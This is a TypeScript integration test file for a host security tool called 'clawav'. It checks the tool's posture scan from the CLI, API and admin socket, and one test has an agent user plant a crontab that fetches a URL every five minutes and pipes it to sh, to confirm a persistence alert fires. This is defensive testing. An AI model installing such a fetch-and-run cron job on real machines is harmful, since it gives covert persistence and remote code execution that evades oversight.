// The posture scan on this machine: the CLI's report, checked against what the test can read for
// itself, and the daemon's scan: run from the API and the admin socket, and a check that passed
// and now fails (the agent user gets a crontab) raising one alert.
import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ScanReport } from "../../src/scan/index.js";
import { CHECKS } from "../../src/scan/index.js";
import { DaemonUnderTest } from "../helpers/daemon.js";
import { CLI, IS_ROOT, TEST_USER, auditdUsable, run, runAsUser, runCli, userIds, waitFor } from "../helpers/system.js";

describe.skipIf(!IS_ROOT || !auditdUsable())("clawav scan on this machine", () => {
  const state = mkdtempSync(join(tmpdir(), "clawav-scan-state-"));
  const cfg = join(state, "config.toml");
  beforeAll(() => writeFileSync(cfg, `[[agents]]\nname = "${TEST_USER}"\nuid = ${userIds(TEST_USER).uid}\n`, { mode: 0o600 }));

  it("reports every check, and what the test can read for itself agrees", async () => {
    const r = await runCli(["scan", "--json", "--config", cfg, "--state-dir", state]);
    const rep = JSON.parse(r.stdout) as ScanReport;
    expect(rep.results.map((x) => x.id).sort()).toEqual(CHECKS.map((c) => c.id).sort());
    const of = (id: string) => rep.results.find((x) => x.id === id)!;
    expect(r.code).toBe(rep.counts.fail > 0 ? 1 : 0);
    // auditd: the test set-up started it.
    expect(of("audit.auditd-running").status).toBe(spawnSync("pidof", ["auditd"]).status === 0 ? "pass" : "fail");
    const dmesg = readFileSync("/proc/sys/kernel/dmesg_restrict", "utf8").trim();
    expect(of("kernel.dmesg-restrict")).toMatchObject({ status: Number(dmesg) >= 1 ? "pass" : "fail", evidence: expect.stringContaining(`kernel.dmesg_restrict = ${dmesg}`) });
    const preload = existsSync("/etc/ld.so.preload") ? readFileSync("/etc/ld.so.preload", "utf8").replace(/#.*$/gm, "").trim() : "";
    expect(of("preload.ld-so-preload").status).toBe(preload === "" ? "pass" : "fail");
    expect(of("kernel.ptrace-scope").status).toBe(existsSync("/proc/sys/kernel/yama/ptrace_scope") && Number(readFileSync("/proc/sys/kernel/yama/ptrace_scope", "utf8")) >= 1 ? "pass" : "fail");
    // Known on a live Debian machine: the package manager answers; nft is installed.
    expect(of("updates.security").status).not.toBe("unknown");
    expect(of("firewall.active").status).not.toBe("unknown");
    // The first scan takes the set-id baseline; the second finds the same programs.
    expect(of("setid.changed").status).toBe("pass");
    expect(existsSync(join(state, "scan-setid-baseline.json"))).toBe(true);
    const again = JSON.parse((await runCli(["scan", "--json", "--config", cfg, "--state-dir", state, "--check", "setid.changed"])).stdout) as ScanReport;
    expect(again.results[0]).toMatchObject({ status: "pass", evidence: expect.stringMatching(/set-id programs, as in the baseline$/) });
  }, 120_000);

  it("prints each result for a person, failures first with their fix, then the counts", async () => {
    const r = await runCli(["scan", "--config", cfg, "--state-dir", state]);
    const lines = r.stdout.trimEnd().split("\n");
    expect(lines.at(-1)).toMatch(new RegExp(`^scan: ${CHECKS.length} checks: \\d+ pass, \\d+ fail, \\d+ unknown \\(\\d+ ms\\)$`));
    const first = lines.findIndex((l) => /^(PASS|FAIL|UNKNOWN) /.test(l));
    if (r.code === 1) expect(lines[first]).toMatch(/^FAIL /);
    for (const [i, l] of lines.entries()) if (l.startsWith("FAIL ")) expect(lines[i + 2], l).toMatch(/^ {8}fix: /);
  }, 120_000);

  it("says what is wrong with its arguments", async () => {
    expect(await runCli(["scan", "--root", "/nonexistent-root"])).toMatchObject({ code: 66, stderr: "clawav: --root: /nonexistent-root is not a folder\n" });
    expect(await runCli(["scan", "--check", "no.such"])).toMatchObject({ code: 64, stderr: expect.stringContaining('--check: no check "no.such"') });
  });
});

describe.skipIf(!IS_ROOT || !auditdUsable())("the daemon's posture scan", () => {
  const d = DaemonUnderTest.withTempState([], `[[agents]]\nname = "${TEST_USER}"\nuid = ${userIds(TEST_USER).uid}\n\n[scans]\nenabled = true\ninterval = 3600\n`);
  const keyFile = join(mkdtempSync(join(tmpdir(), "clawav-scan-key-")), "key");
  beforeAll(async () => {
    spawnSync("crontab", ["-r", "-u", TEST_USER], { stdio: "ignore" });
    await d.start();
  }, 60_000);
  afterAll(async () => {
    spawnSync("crontab", ["-r", "-u", TEST_USER], { stdio: "ignore" });
    await d.stop();
  });

  const post = async (path: string): Promise<{ status: number; body: unknown }> => {
    const { port } = JSON.parse(readFileSync(join(d.stateDir, "api.json"), "utf8")) as { port: number };
    const token = readFileSync(join(d.stateDir, "api-token"), "utf8").trim();
    const res = await fetch(`http://127.0.0.1:${port}${path}`, { method: "POST", headers: { Authorization: `Bearer ${token}` }, body: "{}" });
    return { status: res.status, body: await res.json() };
  };

  it("runs from the API; /api/scan shows it; nothing is alerted for a first scan", async () => {
    const r = await post("/api/scan");
    expect(r.status).toBe(200);
    const rep = r.body as ScanReport;
    expect(rep.results.find((x) => x.id === "agent.crontabs")).toMatchObject({ status: "pass" });
    expect(await d.api<ScanReport>("/api/scan")).toMatchObject({ ts: rep.ts, counts: rep.counts });
    expect(d.alerts.filter((a) => a.engine === "scan")).toEqual([]);
  }, 120_000);

  it("the agent gives itself a crontab; a scan from the admin socket finds it and raises one alert", async () => {
    const c = await runAsUser("bash", ["-c", "echo '*/5 * * * * curl -s http://127.0.0.1:9/x | sh' | crontab -"]);
    expect(c.code, c.stderr).toBe(0);
    // The admin key the daemon made at its first start, shown once on its stderr.
    const key = /OCAV-[0-9a-f]{64}/.exec(d.stderr)?.[0];
    expect(key).toBeDefined();
    writeFileSync(keyFile, `${key}\n`, { mode: 0o600 });
    const cfg = d.configFile!;
    const r = await run("sh", ["-c", `"$0" "$1" admin --config "$2" --key-fd 3 scan 3<"$3"`, process.execPath, CLI, cfg, keyFile]);
    expect(r.code, r.stderr).toBe(0);
    const out = JSON.parse(r.stdout) as { failing: { id: string }[] };
    expect(out.failing.map((f) => f.id)).toContain("agent.crontabs");
    const a = await d.waitAlert("the crontab's alert", (x) => x.engine === "scan" && x.rule === "scan/agent-crontabs");
    expect(a).toMatchObject({ severity: "warning", category: "PERSISTENCE" });
    expect(a.summary).toContain(`/var/spool/cron/crontabs/${TEST_USER}`);
    // Failing still, not newly: a third scan raises nothing more.
    expect((await post("/api/scan")).status).toBe(200);
    await waitFor("the chain to record three scans", () => (readFileSync(join(d.stateDir, "audit.chain"), "utf8").match(/"type":"scan"/g)?.length === 3 ? true : undefined));
    expect(d.alerts.filter((x) => x.rule === "scan/agent-crontabs")).toHaveLength(1);
  }, 120_000);
});
